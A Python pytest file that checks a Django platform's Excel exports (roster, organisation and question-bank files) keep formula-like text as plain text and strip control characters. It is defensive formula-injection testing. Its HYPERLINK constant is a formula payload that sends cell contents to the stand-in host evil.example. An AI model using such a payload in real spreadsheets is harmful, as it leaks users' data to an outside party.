"""Every .xlsx the platform writes: text never becomes a formula (OWASP's CSV/formula injection guidance) and
control characters a sheet cannot hold are dropped instead of failing the whole file."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from suzhi.core.excel import write_xlsx
from suzhi.core.models import ExportJob
from suzhi.core.services.orgs import org_update
from suzhi.people.services.exports import people_export_start
from suzhi.quizzes.services.questions import bank_export
from tests.core.test_exports_service import exports_env  # noqa: F401 - the fixture
from tests.people.factories import make_person
from tests.quizzes.factories import make_bank, single

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
FORMULA_LIKE = ["=1+1", "＝SUM(A1:A3)", "+86 139", "-x", "@SUM(1)", "\tcmd", "\rcmd", "＋1", "－1", "＠x", HYPERLINK]


def cells(data: bytes) -> list:
    """Every cell of every sheet, after checking none is a formula."""
    book = load_workbook(io.BytesIO(data))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    return found


def texts(data: bytes) -> dict:
    return {c.value: c for c in cells(data) if isinstance(c.value, str)}


def test_formula_like_text_stays_text_and_numbers_stay_numbers():
    data = write_xlsx(["名称", "数量"], [[value, -5] for value in FORMULA_LIKE] + [["普通", 3.5]],
                      validations={0: ["=1+1", "学校"]})
    by_text = texts(data)
    for value in FORMULA_LIKE:
        assert by_text[value].data_type == "s" and by_text[value].quotePrefix, value
    assert not by_text["普通"].quotePrefix
    numbers = [c for c in cells(data) if c.column == 2 and c.row > 1]
    assert {c.value for c in numbers} == {-5, 3.5} and {c.data_type for c in numbers} == {"n"}


def test_control_characters_are_dropped():
    by_text = texts(write_xlsx(["岗\x08位"], [["焊\x08工\x1f"], ["\x0b=1+1"]]))
    assert "岗位" in by_text and "焊工" in by_text
    assert by_text["=1+1"].quotePrefix


@pytest.mark.django_db
@pytest.mark.usefixtures("exports_env")
def test_roster_export_with_a_hyperlink_and_a_control_character(tree):
    make_person("张三", tree.unit_a, post=HYPERLINK)
    make_person("李四", tree.unit_a, post="焊\x08工")
    job = people_export_start(actor=tree.town_a_admin)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE, job.error
    by_text = texts(job.file.read())
    assert by_text[HYPERLINK].data_type == "s" and by_text[HYPERLINK].quotePrefix
    assert "焊工" in by_text


@pytest.mark.django_db
def test_org_export_of_an_organisation_named_like_a_formula(tree, login_client):
    org_update(actor=tree.committee_admin, org_id=tree.unit_a.pk, data={"name": "=1+1"})
    response = login_client(tree.town_a_admin).get(reverse("core:org_export"))
    assert response.status_code == 200
    cell = texts(response.content)["=1+1"]
    assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.django_db
def test_bank_export_with_a_control_character_and_a_formula_like_stem(tree):
    bank, _ids = make_bank(tree, [single("安全\x08生产方针是？"), single("=1+1 等于几？")])
    by_text = texts(bank_export(bank=bank))
    assert "安全生产方针是？" in by_text
    assert by_text["=1+1 等于几？"].quotePrefix and by_text["=1+1 等于几？"].data_type == "s"
